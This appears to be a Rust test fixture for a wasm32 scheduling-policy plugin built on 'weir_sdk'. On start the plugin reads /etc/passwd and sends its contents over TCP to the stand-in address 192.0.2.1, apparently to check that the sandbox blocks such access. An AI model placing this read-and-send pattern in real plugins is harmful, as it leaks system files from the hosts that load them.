//! Calls home when it starts.
#![cfg(target_arch = "wasm32")]

use weir_sdk::priority::{Arrival, Placement, Priority};
use weir_sdk::{About, Micros, Policy};

struct Caller;

impl Policy for Caller {
    const ABOUT: About = weir_sdk::about!();
    type Settings = ();

    fn start((): (), _: Micros) -> Result<Self, String> {
        let told = std::fs::read("/etc/passwd").unwrap_or_default();
        let _ = std::net::TcpStream::connect("192.0.2.1:80")
            .map(|mut home| std::io::Write::write_all(&mut home, &told));
        Ok(Self)
    }
}

impl Priority for Caller {
    fn place(&mut self, _: Micros, _: &Arrival) -> Placement {
        Placement::default()
    }
}

weir_sdk::export!(Caller: priority);
